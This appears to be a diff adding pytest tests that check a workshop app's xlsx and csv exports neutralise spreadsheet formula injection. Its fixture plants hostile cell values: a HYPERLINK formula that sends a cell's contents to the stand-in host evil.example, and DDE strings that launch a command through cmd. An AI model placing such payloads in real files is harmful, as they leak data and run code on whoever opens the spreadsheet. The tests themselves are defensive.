@@ -103,3 +103,55 @@ def test_report_and_export_from_the_command_line(tmp_path: Path):
     assert done.returncode == 0 and (tmp_path / "out" / "needs.parquet").exists()
     wrong = cli("report", code, "--out", str(tmp_path / "r.pdf"))
     assert wrong.returncode == 2 and "--out must end in .html or .md." in wrong.stderr
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+cmd|' /C calc'!A0",
+                 "@SUM(1,1)", "-2+3", "\tTab first", "\rReturn first"]  # fmt: skip
+
+
+@pytest.fixture
+def planted(store):
+    """A workshop whose needs, statements and team name are each a spreadsheet formula."""
+    room = make_room(store, participants=0)
+    people = [room.join(f"Person {i}", "=cmd|' /C calc'!A0") for i in range(3)]
+    room.to(Phase.SHARE)
+    for person, text in zip(people * 3, HOSTILE_CELLS, strict=False):
+        actions.share(store, person, room.theme_ids[0], f"{text} said")
+    room.to(Phase.PROPOSE)
+    needs = [
+        actions.propose(store, people[i % 3], room.theme_ids[0], text) for i, text in enumerate(HOSTILE_CELLS)
+    ]
+    room.to(Phase.VOTE)
+    actions.place_dot(store, people[0], needs[0])
+    return room
+
+
+def test_no_exported_cell_is_a_formula_and_the_text_stays_readable(store, planted, tmp_path: Path):
+    (xlsx,) = exports.export_tables(store, planted.workshop.id, "xlsx", tmp_path / "xlsx", 3)
+    book = openpyxl.load_workbook(xlsx)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    triggered = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
+    # Five needs, five statements and three team cells (a leading tab or return is trimmed on input).
+    assert len(triggered) == 13
+    assert all(c.data_type == "s" and c.quotePrefix for c in triggered)
+    needs = pd.read_excel(xlsx, sheet_name="needs")
+    assert needs["text"].tolist() == HOSTILE_CELLS[:5] + ["Tab first", "Return first"]
+    assert needs["id"].dtype.kind == "i"  # numbers stay numbers
+
+
+def test_csv_cells_that_a_spreadsheet_would_evaluate_begin_with_a_quote(store, planted, tmp_path: Path):
+    import csv as csv_module
+
+    written = exports.export_tables(store, planted.workshop.id, "csv", tmp_path / "csv", 3)
+    for path in written:
+        with path.open(newline="") as f:
+            for row in csv_module.reader(f):
+                assert not [v for v in row if v[:1] in ("=", "+", "@", "\t", "\r")], path.name
+                assert not [v for v in row if v.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", v)]
+    needs = pd.read_csv(tmp_path / "csv" / "needs.csv")
+    assert "'=1+2" in needs["text"].tolist() and "'@SUM(1,1)" in needs["text"].tolist()
+    assert needs["id"].dtype.kind == "i" and needs["theme_id"].dtype.kind == "i"
+    (parquet,) = [p for p in exports.export_tables(store, planted.workshop.id, "parquet", tmp_path / "pq", 3)
+                  if p.stem == "needs"]  # fmt: skip
+    assert "=1+2" in pd.read_parquet(parquet)["text"].tolist()  # Parquet keeps the exact text
